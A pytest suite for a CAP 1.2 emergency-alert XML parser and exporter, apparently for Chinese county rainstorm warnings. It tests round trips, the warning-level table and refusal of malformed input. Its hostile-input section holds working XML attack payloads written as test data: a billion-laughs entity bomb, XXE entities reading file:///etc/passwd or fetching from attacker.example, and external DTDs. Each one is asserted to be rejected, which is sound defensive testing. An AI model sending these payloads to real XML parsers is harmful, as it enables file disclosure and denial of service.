"""CAP 1.2 import and export (server/services/cap.py): round trips, real-world samples, the
level table, and every hostile input refused with a message that names the problem."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from server.services.cap import (
    MAX_BYTES,
    NS,
    SEVERITIES,
    URGENCIES,
    AlertData,
    CapError,
    Reference,
    cap_terms,
    level_for,
    parse_cap,
    parse_level,
    to_cap,
)

DATA = Path(__file__).parent / "data" / "cap"
CST = timezone(timedelta(hours=8))
SENDER = "qxt.yuanling@weather.example.cn"


def sample(name: str) -> bytes:
    return (DATA / name).read_bytes()


def minimal(extra: str = "", **replace: str) -> str:
    """A valid minimal CAP alert; `replace` swaps an element's text ("" drops the element,
    info_x is <info>'s x); `extra` is raw XML added at the end of <info>."""
    fields = {
        "identifier": "T-1",
        "sender": SENDER,
        "sent": "2024-06-18T06:45:00+08:00",
        "status": "Actual",
        "msgType": "Alert",
        "scope": "Public",
        "references": "",
    }
    info = {
        "category": "Met",
        "event": "暴雨红色预警",
        "urgency": "Immediate",
        "severity": "Extreme",
        "certainty": "Observed",
        "expires": "2024-06-19T06:45:00+08:00",
    }
    for key, value in replace.items():
        if key.startswith("info_"):
            info[key[5:]] = value
        else:
            fields[key] = value
    head = "".join(f"<{k}>{v}</{k}>" for k, v in fields.items() if v)
    body = "".join(f"<{k}>{v}</{k}>" for k, v in info.items() if v) + extra
    return (f'<?xml version="1.0" encoding="UTF-8"?><alert xmlns="{NS}">{head}'
            f"<info>{body}</info></alert>")


def refused(data: bytes | str) -> str:
    with pytest.raises(CapError) as info:
        parse_cap(data)
    return info.value.message


def make(**kw: object) -> AlertData:
    base: dict[str, object] = dict(
        identifier="CP-2024-0001",
        sender="cunping@yuanling.example.cn",
        sent=datetime(2024, 6, 18, 6, 45, tzinfo=CST),
        category=["Met"],
        event="暴雨红色预警",
        urgency="Immediate",
        severity="Extreme",
        certainty="Observed",
        sender_name="沅陵县融媒体中心",
        headline="沅陵县发布暴雨红色预警",
        description="过去3小时官庄镇降雨量已达100毫米以上。\n请注意防范。",
        instruction="停止集会、停课、停业；危险地带人员立即转移。",
        effective=datetime(2024, 6, 18, 6, 45, tzinfo=CST),
        onset=datetime(2024, 6, 18, 7, 0, tzinfo=CST),
        expires=datetime(2024, 6, 19, 6, 45, tzinfo=CST),
        area_desc="湖南省怀化市沅陵县官庄镇",
        geocodes=[("行政区划代码", "431222101"), ("行政区划代码", "431222205")],
    )
    base.update(kw)
    return AlertData(**base)  # type: ignore[arg-type]


# --- round trips --------------------------------------------------------------------------

FIRST = Reference("cunping@yuanling.example.cn", "CP-2024-0001",
                  datetime(2024, 6, 18, 6, 45, tzinfo=CST))
SECOND = Reference("cunping@yuanling.example.cn", "CP-2024-0002",
                   datetime(2024, 6, 18, 12, 0, tzinfo=UTC))


@pytest.mark.parametrize(
    "alert",
    [
        make(),
        make(identifier="CP-2024-0002", msg_type="Update", references=[FIRST], level=2,
             severity="Severe", urgency="Expected", event="暴雨橙色预警",
             sent=datetime(2024, 6, 18, 12, 0, tzinfo=UTC)),
        make(identifier="CP-2024-0003", msg_type="Cancel", references=[FIRST, SECOND],
             event="暴雨预警解除", severity="Minor", urgency="Past", expires=None, onset=None),
        # A Cancel without <info> at all is valid CAP.
        AlertData(identifier="CP-2024-0004", sender="cunping@yuanling.example.cn",
                  sent=datetime(2024, 6, 18, 18, 0, tzinfo=CST), msg_type="Cancel",
                  references=[SECOND]),
        make(status="Exercise", scope="Restricted", restriction="县应急管理局内部演练",
             note="演练，非真实预警", language="zh-CN", level=1, severity="Unknown",
             urgency="Unknown", certainty="Possible", category=["Met", "Geo"]),
        make(scope="Private", addresses="screen-1 screen-2", language="en-US",
             event="Rainstorm", area_desc="", geocodes=[]),
    ],
    ids=["alert", "update", "cancel", "cancel-no-info", "exercise-restricted", "private"],
)
def test_round_trip(alert: AlertData) -> None:
    xml = to_cap(alert)
    assert xml.startswith(b"<?xml version='1.0' encoding='utf-8'?>")
    assert ET.fromstring(xml).tag == f"{{{NS}}}alert"
    again = parse_cap(xml)
    assert again == alert
    assert to_cap(again) == xml


def test_update_and_cancel_export_references() -> None:
    xml = to_cap(make(msg_type="Cancel", references=[FIRST, SECOND])).decode()
    refs = re.search(r"<references>(.*)</references>", xml)
    assert refs is not None
    assert refs.group(1) == (
        "cunping@yuanling.example.cn,CP-2024-0001,2024-06-18T06:45:00+08:00 "
        "cunping@yuanling.example.cn,CP-2024-0002,2024-06-18T12:00:00-00:00"
    )


def test_export_writes_the_level_and_utf8_chinese() -> None:
    xml = to_cap(make(level=2, severity="Extreme"))
    assert "<valueName>预警级别</valueName>".encode() in xml
    assert b"<value>II</value>" in xml
    assert parse_cap(xml).level == 2  # the explicit level survives, not the table's I


def test_export_refuses_an_invalid_alert() -> None:
    with pytest.raises(CapError, match="references"):
        to_cap(make(msg_type="Update"))
    with pytest.raises(CapError, match="info/severity: unknown value 'Bad'"):
        to_cap(make(severity="Bad", level=1))
    with pytest.raises(CapError, match=r"sent: date .* has no time zone"):
        to_cap(make(sent=datetime(2024, 6, 18, 6, 45)))
    with pytest.raises(CapError, match=r"identifier: .* may not contain spaces"):
        to_cap(make(identifier="two words"))
    with pytest.raises(CapError, match="description: contains a control character"):
        to_cap(make(description="bell\x07"))


def test_microseconds_are_dropped_like_cap_does() -> None:
    alert = make(sent=datetime(2024, 6, 18, 6, 45, 12, 345678, tzinfo=CST))
    assert parse_cap(to_cap(alert)).sent == datetime(2024, 6, 18, 6, 45, 12, tzinfo=CST)


# --- real-world style samples -------------------------------------------------------------


def test_county_rainstorm_red_prefers_the_chinese_info() -> None:
    alert = parse_cap(sample("rainstorm_red.xml"))
    assert alert.identifier == "43122241600000_20240618064500"
    assert alert.sender == SENDER
    assert alert.sent == datetime(2024, 6, 17, 22, 45, tzinfo=UTC)
    assert (alert.status, alert.msg_type, alert.scope) == ("Actual", "Alert", "Public")
    assert alert.language == "zh-CN"  # the second <info>, not the first (en-US)
    assert alert.event == "暴雨红色预警"
    assert alert.level == 1 and alert.colour == "red"
    assert alert.headline == "沅陵县气象台发布暴雨红色预警信号"
    assert alert.sender_name == "沅陵县气象台"
    assert alert.description.startswith("沅陵县气象台2024年06月18日06时45分发布暴雨红色预警信号")
    assert alert.instruction.splitlines()[1] == "2. 停止集会、停课、停业（除特殊行业外）；"
    assert alert.category == ["Met"]
    assert (alert.urgency, alert.severity, alert.certainty) == ("Immediate", "Extreme", "Observed")
    assert alert.expires == datetime(2024, 6, 19, 6, 45, tzinfo=CST)
    assert alert.onset == alert.effective == datetime(2024, 6, 18, 6, 45, tzinfo=CST)
    assert alert.area_desc == "湖南省怀化市沅陵县官庄镇; 湖南省怀化市沅陵县马底驿乡"
    assert alert.geocodes == [("行政区划代码", "431222101"), ("行政区划代码", "431222205")]
    assert alert.references == []
    assert parse_cap(to_cap(alert)) == alert


def test_first_info_when_there_is_no_chinese_one() -> None:
    xml = sample("rainstorm_red.xml").decode()
    xml = xml.replace("<language>zh-CN</language>", "<language>fr-FR</language>")
    alert = parse_cap(xml.encode())
    assert alert.language == "en-US"
    assert alert.event == "Rainstorm"
    assert alert.sender_name == "Yuanling County Meteorological Observatory"


def test_update_downgrades_to_orange() -> None:
    alert = parse_cap(sample("rainstorm_orange_update.xml"))
    assert alert.msg_type == "Update"
    assert alert.references == [
        Reference(SENDER, "43122241600000_20240618064500",
                  datetime(2024, 6, 18, 6, 45, tzinfo=CST)),
    ]
    assert alert.level == 2 and alert.colour == "orange"  # from the table: Severe → II
    assert alert.event == "暴雨橙色预警"


def test_cancel_names_both_earlier_messages() -> None:
    alert = parse_cap(sample("rainstorm_cancel.xml"))
    assert alert.msg_type == "Cancel"
    assert [r.identifier for r in alert.references] == [
        "43122241600000_20240618064500", "43122241600000_20240618120000",
    ]
    assert alert.area_desc == "湖南省怀化市沅陵县" and alert.geocodes == []


def test_very_likely_from_cap_1_0_is_likely() -> None:
    assert parse_cap(minimal(info_certainty="Very Likely")).certainty == "Likely"


def test_z_is_tolerated_for_utc() -> None:
    assert parse_cap(minimal(sent="2024-06-17T22:45:00Z")).sent == datetime(
        2024, 6, 17, 22, 45, tzinfo=UTC)


# --- the level table ----------------------------------------------------------------------

TABLE = {
    "Extreme": {"Immediate": 1, "Expected": 1, "Future": 1, "Past": 1, "Unknown": 1},
    "Severe": {"Immediate": 2, "Expected": 2, "Future": 2, "Past": 2, "Unknown": 2},
    "Moderate": {"Immediate": 3, "Expected": 3, "Future": 3, "Past": 3, "Unknown": 3},
    "Minor": {"Immediate": 4, "Expected": 4, "Future": 4, "Past": 4, "Unknown": 4},
    "Unknown": {"Immediate": 3, "Expected": 4, "Future": 4, "Past": 4, "Unknown": 4},
}


@pytest.mark.parametrize("severity", SEVERITIES)
@pytest.mark.parametrize("urgency", URGENCIES)
def test_level_table(severity: str, urgency: str) -> None:
    expected = TABLE[severity][urgency]
    assert level_for(severity, urgency) == expected
    xml = minimal(info_severity=severity, info_urgency=urgency)
    assert parse_cap(xml).level == expected


def test_level_table_is_documented() -> None:
    doc = (Path(__file__).parents[1] / "docs" / "cap.md").read_text(encoding="utf-8")
    roman = {1: "I", 2: "II", 3: "III", 4: "IV"}
    for severity, row in TABLE.items():
        line = next(x for x in doc.splitlines() if x.startswith(f"| {severity} "))
        cells = [c.strip() for c in line.strip("|").split("|")]
        assert cells[1:] == [roman[row[u]] for u in URGENCIES], severity


@pytest.mark.parametrize("level", [1, 2, 3, 4])
def test_reverse_mapping(level: int) -> None:
    severity, urgency = cap_terms(level)
    assert level_for(severity, urgency) == level
    alert = make(severity=severity, urgency=urgency, level=0)
    assert alert.level == level


@pytest.mark.parametrize(
    ("value", "level"),
    [("I", 1), ("II", 2), ("iii", 3), ("IV", 4), ("Ⅱ级", 2), ("Ⅳ", 4), ("1", 1), ("4", 4),
     ("红色", 1), ("橙色", 2), ("黄", 3), ("蓝色", 4), ("Orange", 2), ("blue", 4)],
)
def test_explicit_level_wins(value: str, level: int) -> None:
    for element, name in (("parameter", "预警级别"), ("eventCode", "level")):
        xml = minimal(extra=(
            f"<{element}><valueName>{name}</valueName><value>{value}</value></{element}>"))
        assert parse_cap(xml).level == level
    assert parse_level(value) == level


def test_unknown_explicit_level_refused() -> None:
    xml = minimal(extra="<parameter><valueName>预警级别</valueName><value>紫色</value></parameter>")
    assert refused(xml) == "预警级别: unknown value '紫色' (expected I–IV or a colour)"


# --- hostile and broken input -------------------------------------------------------------


def test_minimal_is_valid() -> None:
    assert parse_cap(minimal()).event == "暴雨红色预警"


@pytest.mark.parametrize(
    "data",
    [b"", b"<alert", minimal().replace("</info>", "</inf>").encode(), b"\xff\xfe\x00garbage",
     minimal().encode() + b"<trailing/>"],
    ids=["empty", "unclosed", "mismatched", "garbage", "two-roots"],
)
def test_broken_xml(data: bytes) -> None:
    message = refused(data)
    assert message.startswith("broken XML: ")
    assert re.search(r"line \d+, column \d+", message)


def test_broken_xml_names_the_line() -> None:
    xml = minimal().replace("><", ">\n<").replace("<event>", "<event a=>")
    line = next(i for i, text in enumerate(xml.splitlines(), 1) if "<event" in text)
    assert f"line {line}, column" in refused(xml)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE alert [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>"""


def test_billion_laughs() -> None:
    message = refused(BILLION_LAUGHS)
    assert "entity declaration 'lol' is not allowed" in message
    assert "billion laughs" in message


@pytest.mark.parametrize("url", ["file:///etc/passwd", "http://attacker.example/cap.txt"])
def test_external_entity(url: str) -> None:
    xml = minimal().replace(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
        f'<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY xxe SYSTEM "{url}">]>',
    ).replace("<event>暴雨红色预警</event>", "<event>&xxe;</event>")
    message = refused(xml)
    assert message.startswith(f"external entity 'xxe' ({url}) is not allowed")


def test_external_parameter_entity() -> None:
    xml = ('<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY % dtd SYSTEM '
           '"http://attacker.example/evil.dtd"> %dtd;]>' + minimal().split("?>", 1)[1])
    assert "external entity 'dtd' (http://attacker.example/evil.dtd)" in refused(xml)


def test_dtd_refused_even_without_entities() -> None:
    xml = '<?xml version="1.0"?><!DOCTYPE alert>' + minimal().split("?>", 1)[1]
    assert refused(xml) == "DTD (<!DOCTYPE alert>) is not allowed in a CAP message"


def test_external_dtd_refused() -> None:
    xml = ('<?xml version="1.0"?><!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">'
           + minimal().split("?>", 1)[1])
    assert refused(xml) == (
        "DTD (<!DOCTYPE alert>) (http://attacker.example/cap.dtd) is not allowed in a CAP message")


def test_undeclared_entity_is_broken_xml() -> None:
    xml = minimal(info_event="&xxe;")
    assert refused(xml).startswith("broken XML: undefined entity")


def test_oversized() -> None:
    padding = "<note>" + "很" * MAX_BYTES + "</note>"
    xml = minimal().replace("<scope>Public</scope>", "<scope>Public</scope>" + padding)
    message = refused(xml.encode())
    assert message.startswith("CAP message too large: ")
    assert "the limit is 262144 (256 KB)" in message


def test_just_under_the_limit_is_accepted() -> None:
    base = minimal()
    room = MAX_BYTES - len(base.encode()) - len("<note></note>")
    xml = base.replace("<scope>Public</scope>", f"<scope>Public</scope><note>{'x' * room}</note>")
    assert len(xml.encode()) == MAX_BYTES
    assert len(parse_cap(xml).note) == room


@pytest.mark.parametrize(
    ("xml", "message"),
    [
        ('<alert xmlns="urn:oasis:names:tc:emergency:cap:1.1"/>',
         "wrong namespace 'urn:oasis:names:tc:emergency:cap:1.1', expected "
         "urn:oasis:names:tc:emergency:cap:1.2 (CAP 1.2)"),
        ("<alert/>", "wrong namespace: <alert> has none, expected "
         "urn:oasis:names:tc:emergency:cap:1.2"),
        (f'<feed xmlns="{NS}"/>', "root element is <feed>, expected <alert>"),
    ],
    ids=["cap-1.1", "none", "not-alert"],
)
def test_wrong_namespace(xml: str, message: str) -> None:
    assert refused(xml) == message


def test_fields_in_another_namespace_do_not_count() -> None:
    xml = minimal().replace("<identifier>T-1</identifier>",
                            '<identifier xmlns="urn:other">T-1</identifier>')
    assert refused(xml) == "missing required field identifier"


@pytest.mark.parametrize(
    "field",
    ["identifier", "sender", "sent", "status", "msgType", "scope",
     "info/category", "info/event", "info/urgency", "info/severity", "info/certainty"],
)
def test_missing_required_field(field: str) -> None:
    key = field.replace("info/", "info_")
    assert refused(minimal(**{key: ""})) == f"missing required field {field}"
    blank = refused(minimal(**{key: "   "}))  # whitespace only is missing too
    assert blank == f"missing required field {field}"


def test_missing_info_in_an_alert() -> None:
    xml = re.sub(r"<info>.*</info>", "", minimal())
    assert refused(xml) == "missing required field info"


def test_missing_area_desc() -> None:
    xml = minimal(extra="<area><geocode><valueName>行政区划代码</valueName>"
                        "<value>431222</value></geocode></area>")
    assert refused(xml) == "missing required field info/area/areaDesc"


def test_duplicate_field() -> None:
    xml = minimal().replace("<sender>", "<sender>a@b</sender><sender>")
    assert refused(xml) == "sender appears 2 times; CAP allows it once"


@pytest.mark.parametrize(
    ("key", "path", "value"),
    [
        ("status", "status", "Live"),
        ("msgType", "msgType", "Warning"),
        ("scope", "scope", "Everyone"),
        ("info_category", "info/category", "Weather"),
        ("info_severity", "info/severity", "Critical"),
        ("info_urgency", "info/urgency", "Now"),
        ("info_certainty", "info/certainty", "Sure"),
        ("status", "status", "actual"),  # CAP values are case-sensitive
    ],
)
def test_unknown_values(key: str, path: str, value: str) -> None:
    message = refused(minimal(**{key: value}))
    assert message.startswith(f"{path}: unknown value '{value}' (expected one of ")


@pytest.mark.parametrize(
    ("key", "path", "value"),
    [
        ("sent", "sent", "2024-06-18T06:45:00"),  # no time zone
        ("sent", "sent", "2024-06-18 06:45:00+08:00"),
        ("sent", "sent", "2024-13-18T06:45:00+08:00"),
        ("sent", "sent", "18/06/2024"),
        ("info_expires", "info/expires", "2024-02-30T06:45:00+08:00"),
        ("info_expires", "info/expires", "tomorrow"),
    ],
)
def test_bad_dates(key: str, path: str, value: str) -> None:
    message = refused(minimal(**{key: value}))
    assert message.startswith(f"{path}: bad date '{value}'")


@pytest.mark.parametrize("msg_type", ["Update", "Cancel"])
def test_update_or_cancel_without_references(msg_type: str) -> None:
    assert refused(minimal(msgType=msg_type)) == (
        f"missing required field references: a {msg_type} must name the message(s) it replaces")


@pytest.mark.parametrize(
    ("references", "message"),
    [
        ("T-0", "references: bad entry 'T-0' (expected sender,identifier,sent)"),
        (f"{SENDER},T-0",
         f"references: bad entry '{SENDER},T-0' (expected sender,identifier,sent)"),
        (f"{SENDER},T-0,yesterday", "references: bad date 'yesterday'"),
    ],
)
def test_bad_references(references: str, message: str) -> None:
    assert refused(minimal(msgType="Update", references=references)).startswith(message)


def test_identifier_with_a_space() -> None:
    assert refused(minimal(identifier="T 1")) == (
        "identifier: 'T 1' may not contain spaces, commas, '<' or '&'")


def test_restricted_scope_needs_a_restriction() -> None:
    assert refused(minimal(scope="Restricted")) == (
        "missing required field restriction (scope is Restricted)")


def test_cap_error_names_the_field() -> None:
    with pytest.raises(CapError) as info:
        parse_cap(minimal(info_urgency="Now"))
    assert info.value.field == "info/urgency"
    assert info.value.status == 422
